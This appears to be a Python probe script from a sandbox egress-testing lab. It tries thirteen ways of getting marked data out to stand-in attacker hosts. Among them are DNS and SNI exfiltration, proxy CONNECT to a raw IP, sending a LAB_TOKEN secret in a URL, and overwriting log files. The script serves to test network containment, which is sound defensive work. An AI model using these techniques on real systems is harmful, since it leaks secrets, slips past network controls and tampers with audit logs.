"""What the agent does, in the same words under each neighbour: standard library only. Prints nothing that counts.

Whether something got out is for those to say who got it (world.py): each attack carries a mark of its own, argv[1] and
the attack's name.
"""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import struct
import sys
import urllib.parse
from collections.abc import Callable

SECONDS = 4.0
ALLOWED, EVIL, EVIL_IP, DNS_IP = "allowed.example", "evil.example", "20.0.0.66", "20.0.0.53"
MARK, LOG, UNIX = sys.argv[1], sys.argv[2], sys.argv[3]


def find_proxy() -> tuple[str, int, str] | None:
    """Host, port and authorization of the proxy that the environment names."""
    for name in ("https_proxy", "HTTPS_PROXY", "http_proxy", "HTTP_PROXY"):
        if given := os.environ.get(name):
            url = urllib.parse.urlsplit(given)
            import base64

            word = base64.b64encode(f"{url.username}:{url.password}".encode()).decode()
            named = f"Proxy-Authorization: Basic {word}\r\n" if url.username else ""
            return url.hostname or "", url.port or 80, named
    return None


def connect(host: str, port: int) -> socket.socket:
    """By the proxy's CONNECT where there is one, as a client does that means to obey."""
    proxy = find_proxy()
    if proxy is None:
        return socket.create_connection((host, port), SECONDS)
    stream = socket.create_connection(proxy[:2], SECONDS)
    stream.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n{proxy[2]}\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        got = stream.recv(4096)
        if not got:
            raise OSError("closed")
        answer += got
    if answer.split()[1] != b"200":
        raise OSError(answer[:60])
    return stream


def get(host: str, name: str, path: str) -> bytes:
    """GET inside TLS to `host`, which is told that it is `name`."""
    context = ssl._create_unverified_context()  # noqa: S323  an attacker verifies nothing
    with connect(host, 443) as plain, context.wrap_socket(plain, server_hostname=name) as stream:
        stream.sendall(f"GET {path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
        return stream.recv(4096)


def mark(name: str) -> bytes:
    return f"{MARK}-{name}".encode()


def allowed() -> None:
    get(ALLOWED, ALLOWED, f"/{mark('allowed').decode()}")


def tcp() -> None:
    with socket.create_connection((EVIL_IP, 9999), SECONDS) as stream:
        stream.sendall(mark("tcp"))
        stream.recv(1)


def query(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def dns() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(query(f"{MARK}-dns.{EVIL}"), (DNS_IP, 53))


def udp() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(mark("udp"), (EVIL_IP, 9999))


def icmp() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sender:
        sender.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + mark("icmp"), (EVIL_IP, 0))


def unset() -> None:
    with socket.create_connection((EVIL_IP, 80), SECONDS) as stream:
        stream.sendall(b"GET /" + mark("unset") + b" HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        stream.recv(1)


def connect_ip() -> None:
    with connect(EVIL_IP, 443) as stream:
        stream.sendall(mark("connect_ip"))
        stream.recv(1)


def sni() -> None:
    get(ALLOWED, f"{MARK}-sni.{EVIL}", "/")


def exfiltrate() -> None:
    name = f"{MARK}-exfiltrate.{EVIL}"
    with contextlib.suppress(OSError):
        socket.getaddrinfo(name, 443)
    connect(name, 443).close()


def unix() -> None:
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(SECONDS)
        stream.connect(UNIX)
        stream.sendall(mark("unix"))
        stream.recv(1)


def loopback() -> None:
    with socket.create_connection(("127.0.0.1", 7777), SECONDS) as stream:
        stream.sendall(mark("loopback"))
        stream.recv(1)


def token() -> None:
    get(ALLOWED, ALLOWED, f"/?key={os.environ['LAB_TOKEN']}&{mark('token').decode()}")


def log() -> None:
    for folder, _, names in os.walk(LOG):
        for name in names:
            with contextlib.suppress(OSError), open(os.path.join(folder, name), "r+b") as file:
                file.write(mark("log"))
    with open(LOG, "r+b") as file:
        file.write(mark("log"))


ATTACKS: tuple[Callable[[], None], ...] = (
    *(allowed, tcp, dns, udp, icmp, unset, connect_ip, sni, exfiltrate, unix, loopback, token, log),
)

if __name__ == "__main__":
    for attack in ATTACKS:
        try:
            attack()
            print(f"{attack.__name__}: no error", flush=True)
        except (OSError, ValueError, KeyError) as error:
            print(f"{attack.__name__}: {error!r}", flush=True)
